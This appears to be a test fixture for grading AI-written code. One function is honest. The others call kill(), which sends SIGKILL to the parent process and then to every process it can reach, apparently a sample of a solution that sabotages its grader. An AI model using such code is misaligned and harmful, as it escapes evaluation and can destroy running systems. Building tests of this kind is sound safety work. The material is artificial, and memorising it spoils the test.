"""C3. Kills every process it may, its parent first. Holds: own pid namespace; the grader is not
among them.
"""

HONEST = ('scale_worked', 'scale_hidden')
RECORDED = 'count_above(x, bar) is wrong'

import os
import signal

import numpy as np


def scale(x):
    return 3.0 * x - 1.0


def kill():
    for pid in (os.getppid(), -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return 0


def count_above(x, bar):
    return kill()

def descend(gradient, x, steps):
    return kill()

def fit(x, y):
    return kill()

def predict(weights, x):
    return kill()

def distances(x):
    return kill()
